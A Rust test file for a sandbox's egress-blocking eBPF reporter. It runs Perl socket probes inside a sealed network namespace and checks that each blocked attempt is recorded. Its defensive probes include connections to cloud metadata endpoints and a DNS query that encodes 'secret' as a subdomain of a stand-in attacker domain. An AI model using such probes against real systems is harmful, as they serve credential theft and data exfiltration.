use super::*;

use crate::kernel::netns;
use crate::{Host, HostOptions, SealedNetns};
use isolarium_netplan::intent::{Reach, WorkloadNetwork};
use std::fs;
use std::path::PathBuf;
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};

/// A cgroup v2 directory and a pin directory that go away at the end of the test.
struct Ground {
    cgroup: PathBuf,
    pins: tempfile::TempDir,
}

impl Ground {
    fn new() -> Self {
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap();
        let root = mounts
            .lines()
            .find(|line| line.contains(" - cgroup2 "))
            .expect("cgroup v2 is mounted somewhere");
        let root = Path::new(root.split(' ').nth(4).unwrap());
        let name = format!(
            "isolarium-test-{}-{}",
            std::process::id(),
            NEXT.fetch_add(1, Ordering::Relaxed)
        );
        let cgroup = root.join(name);
        fs::create_dir(&cgroup).unwrap();
        Self {
            cgroup,
            pins: tempfile::tempdir().unwrap(),
        }
    }

    fn fd(&self) -> fs::File {
        fs::File::open(&self.cgroup).unwrap()
    }

    fn id(&self) -> u64 {
        cgroup_id(self.fd().as_fd()).unwrap()
    }

    fn reporter(&self) -> Reporter {
        Reporter::open(&self.pins.path().join("bpf")).unwrap()
    }

    /// Runs a perl program as a process of the cgroup inside a namespace and returns what it printed.
    fn perl(&self, netns: &SealedNetns, program: &str) -> String {
        let script = r#"echo $$ > "$0/cgroup.procs" && exec unshare --pid --fork --kill-child perl -e "$1""#;
        let mut command = Command::new("sh");
        command
            .args(["-c", script])
            .arg(&self.cgroup)
            .arg(format!("{PERL_PRELUDE}{program}"));
        let output = netns::within(netns.as_fd(), || command.output().unwrap()).unwrap();
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout).unwrap()
    }
}

impl Drop for Ground {
    fn drop(&mut self) {
        Reporter::teardown(&self.pins.path().join("bpf")).unwrap();
        // The kernel takes a moment to see that the last process is gone.
        for _ in 0..200 {
            if fs::remove_dir(&self.cgroup).is_ok() {
                return;
            }
            std::thread::sleep(Duration::from_millis(5));
        }
    }
}

const PERL_PRELUDE: &str = r#"
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 IPPROTO_UDP);
sub tcp { my ($address, $port) = @_; socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
    print "tcp ", (connect($s, pack_sockaddr_in($port, inet_aton($address))) ? 0 : $!+0), "\n"; }
sub tcp6 { my ($address, $port) = @_; socket(my $s, PF_INET6, SOCK_STREAM, 0) or die;
    print "tcp6 ", (connect($s, pack_sockaddr_in6($port, inet_pton(PF_INET6, $address))) ? 0 : $!+0), "\n"; }
sub udp { my ($address, $port, $bytes) = @_; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die;
    print "udp ", (send($s, $bytes, 0, pack_sockaddr_in($port, inet_aton($address))) ? 0 : $!+0), "\n"; }
sub udp6 { my ($address, $port) = @_; socket(my $s, PF_INET6, SOCK_DGRAM, 0) or die;
    print "udp6 ", (send($s, "x", 0, pack_sockaddr_in6($port, inet_pton(PF_INET6, $address))) ? 0 : $!+0), "\n"; }
sub raw { my ($family, $type, $protocol) = @_;
    print "raw ", (socket(my $s, $family, $type, $protocol) ? 0 : $!+0), "\n"; }
sub question { join('', map { chr(length) . $_ } split(/\./, $_[0])) . "\0" . pack('nn', $_[1], 1); }
sub ask { my ($to, $name, $kind) = @_; udp($to, 53, pack('n6', 7, 0x100, 1, 0, 0, 0) . question($name, $kind)); }
"#;

fn sealed() -> SealedNetns {
    let host = Host::new(HostOptions {
        run_dir: "/nonexistent".into(),
        host_netns: None,
    });
    let workload = "w-0123456789abcdef0".parse().unwrap();
    host.seal(&WorkloadNetwork {
        workload,
        reach: Reach::Nothing,
    })
    .unwrap()
}

fn shown(attempt: &RawAttempt) -> String {
    let name = attempt
        .question
        .as_ref()
        .map(|question| format!(" {} {}", question.name, question.kind))
        .unwrap_or_default();
    format!(
        "{} {}:{} x{} {}{name}",
        attempt.protocol, attempt.address, attempt.port, attempt.count, attempt.process
    )
}

/// Proves: NI-6, NI-8, NI-22, D-11
#[test]
fn every_attempt_to_leave_is_recorded_and_the_process_sees_an_unreachable_network() {
    let ground = Ground::new();
    let netns = sealed();
    let attempts = r#"
        tcp('203.0.113.10', 443); tcp('203.0.113.10', 443); tcp('169.254.170.2', 80); tcp('169.254.169.254', 80);
        tcp6('2001:db8::1', 443); tcp6('::ffff:203.0.113.11', 8443);
        udp('198.51.100.53', 53, 'x'); udp6('2001:db8::53', 53); udp('224.0.0.1', 9999, 'x');
    "#;
    let without = ground.perl(&netns, attempts);

    let reporter = ground.reporter();
    reporter.attach(ground.fd().as_fd(), &BTreeSet::new()).unwrap();
    reporter.attach(ground.fd().as_fd(), &BTreeSet::new()).unwrap();
    let before = unix_nanos();
    let with = ground.perl(&netns, attempts);
    let after = unix_nanos();
    assert_eq!(with, without, "the report changes nothing that a process sees");
    assert!(
        with.lines()
            .all(|line| line.ends_with(&format!(" {}", libc::ENETUNREACH))),
        "{with}"
    );

    let found = reporter.attempts(ground.id()).unwrap();
    let texts: Vec<String> = found.iter().map(shown).collect();
    assert_eq!(
        texts,
        [
            "6 203.0.113.10:443 x2 perl",
            "6 169.254.170.2:80 x1 perl",
            "6 169.254.169.254:80 x1 perl",
            "6 2001:db8::1:443 x1 perl",
            "6 203.0.113.11:8443 x1 perl",
            "17 198.51.100.53:53 x1 perl",
            "17 2001:db8::53:53 x1 perl",
            "17 224.0.0.1:9999 x1 perl",
        ]
    );
    for attempt in &found {
        assert_eq!(attempt.pid, 1, "as seen inside the pid namespace");
        assert!(
            before <= attempt.first_unix_nanos && attempt.last_unix_nanos <= after,
            "{attempt:?}"
        );
        assert!(attempt.first_unix_nanos <= attempt.last_unix_nanos);
    }
    assert_eq!(reporter.lost(ground.id()).unwrap(), Some(0));
    reporter
        .retain(&std::collections::HashSet::from([ground.id()]))
        .unwrap();
    assert_eq!(
        reporter.attempts(ground.id()).unwrap().len(),
        found.len(),
        "of a cgroup that is still there"
    );
    reporter.retain(&std::collections::HashSet::new()).unwrap();
    assert_eq!(reporter.attempts(ground.id()).unwrap(), []);
    reporter.forget(ground.id()).unwrap();
}

fn unix_nanos() -> u64 {
    u64::try_from(SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos()).unwrap()
}

/// Proves: D-11, NI-22
#[test]
fn dns_questions_to_loopback_are_reported_by_name_and_refused_at_once() {
    let ground = Ground::new();
    let netns = sealed();
    let reporter = ground.reporter();
    reporter.attach(ground.fd().as_fd(), &BTreeSet::new()).unwrap();
    let said = ground.perl(
        &netns,
        r#"
        ask('127.0.0.1', 'My-Bucket.s3.us-east-1.amazonaws.com', 1);
        ask('127.0.0.1', 'my-bucket.S3.us-east-1.amazonaws.com', 1);
        ask('127.0.0.53', 'c2VjcmV0.attacker.example', 16);
        tcp('127.0.0.1', 53);
        udp('127.0.0.1', 53, 'no question');
        "#,
    );
    assert_eq!(
        said,
        format!("udp 0\nudp 0\nudp 0\ntcp {}\nudp 0\n", libc::ECONNREFUSED),
        "loopback itself works"
    );
    let texts: Vec<String> = reporter.attempts(ground.id()).unwrap().iter().map(shown).collect();
    assert_eq!(
        texts,
        [
            "17 127.0.0.1:53 x2 perl my-bucket.s3.us-east-1.amazonaws.com 1",
            "17 127.0.0.53:53 x1 perl c2vjcmv0.attacker.example 16",
        ]
    );
}

/// Proves: NI-6
#[test]
fn attempts_to_open_raw_and_icmp_sockets_are_recorded_where_the_kernel_has_the_hook() {
    let ground = Ground::new();
    let netns = sealed();
    let reporter = ground.reporter();
    let has_hook =
        fs::read_to_string("/sys/kernel/security/lsm").is_ok_and(|all| all.trim().split(',').any(|lsm| lsm == "bpf"));
    assert!(
        reporter.sees_raw_sockets() || !has_hook,
        "the kernel has the hook and it was not used"
    );
    reporter.attach(ground.fd().as_fd(), &BTreeSet::new()).unwrap();
    let said = ground.perl(&netns, "raw(PF_INET, SOCK_RAW, 1); raw(PF_INET, SOCK_DGRAM, 1); raw(PF_INET6, SOCK_RAW, 58); raw(PF_INET, SOCK_RAW, 255);");
    assert_eq!(said.lines().count(), 4);
    let texts: Vec<String> = reporter.attempts(ground.id()).unwrap().iter().map(shown).collect();
    let expected: &[&str] = if reporter.sees_raw_sockets() {
        &["1 0.0.0.0:0 x2 perl", "58 :::0 x1 perl", "255 0.0.0.0:0 x1 perl"]
    } else {
        &[]
    };
    assert_eq!(texts, expected);
}

/// Proves: NI-6
#[test]
fn the_second_wall_refuses_although_there_is_a_way_out() {
    let ground = Ground::new();
    let lab = Open::new();
    let reporter = ground.reporter();
    let program = "tcp('192.0.2.77', 9); udp('192.0.2.77', 9, 'x');";
    let script = r#"echo $$ > "$0/cgroup.procs" && exec perl -e "$1""#;
    let run = || {
        let mut command = Command::new("sh");
        command
            .args(["-c", script])
            .arg(&ground.cgroup)
            .arg(format!("{PERL_PRELUDE}{program}"));
        let output = netns::within(lab.netns.as_fd(), || command.output().unwrap()).unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    assert_eq!(
        run(),
        format!("tcp {}\nudp 0\n", libc::ECONNREFUSED),
        "control: the address answers"
    );
    reporter.attach(ground.fd().as_fd(), &BTreeSet::new()).unwrap();
    assert_eq!(run(), format!("tcp {0}\nudp {0}\n", libc::ENETUNREACH));
    drop(reporter);
    assert_eq!(
        run(),
        format!("tcp {0}\nudp {0}\n", libc::ENETUNREACH),
        "also when the engine is gone"
    );
    let again = ground.reporter();
    let counts: Vec<u64> = again
        .attempts(ground.id())
        .unwrap()
        .iter()
        .map(|attempt| attempt.count)
        .collect();
    assert_eq!(
        counts,
        [2, 2],
        "and a restarted engine finds what was recorded meanwhile"
    );
    again.forget(ground.id()).unwrap();
    assert_eq!(
        run(),
        format!("tcp {0}\nudp {0}\n", libc::ENETUNREACH),
        "an unknown cgroup is refused too"
    );
}

/// A namespace with an address besides loopback's, so that there is something to refuse.
struct Open {
    netns: OwnedFd,
}

impl Open {
    fn new() -> Self {
        let netns = netns::within_fresh(|fd| {
            for args in ["link set lo up", "addr add 192.0.2.77/32 dev lo"] {
                assert!(Command::new("ip").args(args.split(' ')).status().unwrap().success());
            }
            fd
        });
        Self { netns: netns.unwrap() }
    }
}

#[test]
fn a_flood_of_destinations_pushes_nothing_out_and_is_counted() {
    let (flooder, neighbour) = (Ground::new(), Ground::new());
    let netns = sealed();
    let reporter = flooder.reporter();
    reporter.attach(flooder.fd().as_fd(), &BTreeSet::new()).unwrap();
    reporter.attach(neighbour.fd().as_fd(), &BTreeSet::new()).unwrap();
    neighbour.perl(&netns, "tcp('203.0.113.1', 1)");
    flooder.perl(
        &netns,
        "tcp('203.0.113.2', 2); udp('198.51.100.1', $_, 'x') for 1..2000;",
    );
    let found = reporter.attempts(flooder.id()).unwrap();
    assert_eq!(found.len(), Reporter::KINDS_MAX);
    assert_eq!(shown(&found[0]), "6 203.0.113.2:2 x1 perl");
    assert_eq!(reporter.lost(flooder.id()).unwrap(), Some(2001 - 512));
    assert_eq!(reporter.lost(Ground::new().id()).unwrap(), None, "never watched");
    assert_eq!(reporter.attempts(neighbour.id()).unwrap().len(), 1);
}
